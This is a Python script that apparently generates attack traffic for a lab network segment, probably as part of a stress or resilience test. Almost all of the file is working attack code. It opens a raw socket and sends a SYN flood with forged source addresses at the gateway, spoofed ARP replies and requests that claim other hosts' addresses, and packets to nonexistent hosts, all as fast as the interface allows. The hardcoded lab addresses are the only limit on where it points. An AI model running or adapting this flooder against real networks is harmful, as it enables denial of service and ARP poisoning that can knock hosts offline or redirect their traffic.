"""flood.py DEVICE GATEWAY_MAC: floods the segment of DEVICE as fast as it can until SIGTERM, with claims of other hosts'
addresses by ARP, SYNs to the gateway and packets to hosts that don't exist; then prints one line of JSON:
{ "sent": packets, "seconds": s }. The segment is 10.20.0.0/24, its gateway 10.20.0.1, its members 10.20.0.2 to .9."""

import json
import random
import signal
import socket
import struct
import sys
import time

device, gateway = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", ""))
own = bytes.fromhex("02000000dead")
GATEWAY = bytes([10, 20, 0, 1])


def total(data):
    words = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while words > 0xFFFF:
        words = (words & 0xFFFF) + (words >> 16)
    return ~words & 0xFFFF


def ip(source, destination, protocol, payload):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0) + source + destination
    return head[:10] + struct.pack("!H", total(head)) + head[12:] + payload


def syn(source):
    ports = (random.randrange(1024, 65536), random.randrange(1, 65536))
    segment = struct.pack("!HHIIHHHH", *ports, random.getrandbits(32), 0, 0x5002, 1024, 0, 0)
    pseudo = source + GATEWAY + struct.pack("!HH", 6, 20)
    segment = segment[:16] + struct.pack("!H", total(pseudo + segment)) + segment[18:]
    return gateway + own + b"\x08\x00" + ip(source, GATEWAY, 6, segment)


def unknown(source):
    target = bytes([10, 20, 0, random.randrange(100, 250)])
    return gateway + own + b"\x08\x00" + ip(source, target, 17, struct.pack("!HHHH", 9, 9, 8, 0))


def arp(operation, sender, target, destination):
    card = b"\x02\x66" + random.randbytes(4)
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + card + sender + gateway + target
    return destination + card + b"\x08\x06" + body


def member():
    return bytes([10, 20, 0, random.randrange(2, 10)])


frames = []
for _ in range(1000):
    source = bytes([10, 20, 0, random.randrange(20, 250)])
    frames += [
        syn(source),
        unknown(source),
        arp(1, member(), GATEWAY, b"\xff" * 6),
        arp(2, member(), GATEWAY, gateway),
    ]

going = True


def end(*_):
    global going
    going = False


signal.signal(signal.SIGTERM, end)
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((device, 0))
print("ready", flush=True)
started, sent = time.monotonic(), 0
while going:
    for frame in frames:
        try:
            raw.send(frame)
            sent += 1
        except OSError:  # the queue of the card is full
            pass
print(json.dumps({"sent": sent, "seconds": time.monotonic() - started}))
